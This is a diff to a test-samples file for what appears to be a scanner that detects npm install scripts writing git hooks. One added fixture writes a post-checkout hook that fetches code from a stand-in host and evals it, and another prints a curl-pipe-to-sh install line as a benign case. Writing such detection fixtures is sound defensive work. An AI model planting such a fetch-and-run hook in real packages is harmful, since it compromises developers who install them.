@@ -18,6 +18,17 @@ export const samples: Samples = {
       ),
       expected: [at('git-hook', 'high', 'setup.js', 4)],
     },
+    {
+      name: 'a git hook that installing writes, by a line of another file that fetches what it runs',
+      files: installed(
+        "const fs = require('fs'), path = require('path');\nconst { steps } = require('./steps');\nfor (const step of steps(process.env.INIT_CWD)) fs.writeFileSync(path.join(step.git, 'hooks', 'post-checkout'), step.text);\n",
+        {
+          'steps.js':
+            "const path = require('path');\nconst FROM = 'https://steps.example/';\nexports.steps = function* (root) {\n  yield { git: path.join(root, '.git'), text: `node -e \"fetch('${FROM}').then((r) => r.text()).then(eval)\"` };\n};\n",
+        },
+      ),
+      expected: [at('git-hook', 'high', 'setup.js', 3)],
+    },
     ...[
       ['which the hook answers', 'echo y | node setup.js', 'if (added) '],
       ['which the code answers', 'node setup.js', "process.stdin.push('y\\n');\nif (added) "],
@@ -324,6 +335,12 @@ export const samples: Samples = {
         `${FS}fs.writeFileSync(path.join(process.env.INIT_CWD, '.git/hooks/pre-commit'), '#!/bin/sh');\n`,
       ),
     ),
+    quiet('a git hook manager whose command says how it is got', {
+      ...installed(
+        `${FS}fs.writeFileSync(path.join(process.env.INIT_CWD, '.git/hooks/pre-commit'), 'npx own');\n`,
+        { 'cli.js': "console.log('curl -fsSL https://own.example/install | sh');\n" },
+      ),
+    }),
     quiet('completion that a command installs', {
       ...imported('module.exports = 1;\n'),
       'cli.js': `${FS}if (process.argv[2] === 'completion') { const done = () => fs.appendFileSync(os.homedir() + '/.bashrc', '# x'); module.exports = done; }\n`,
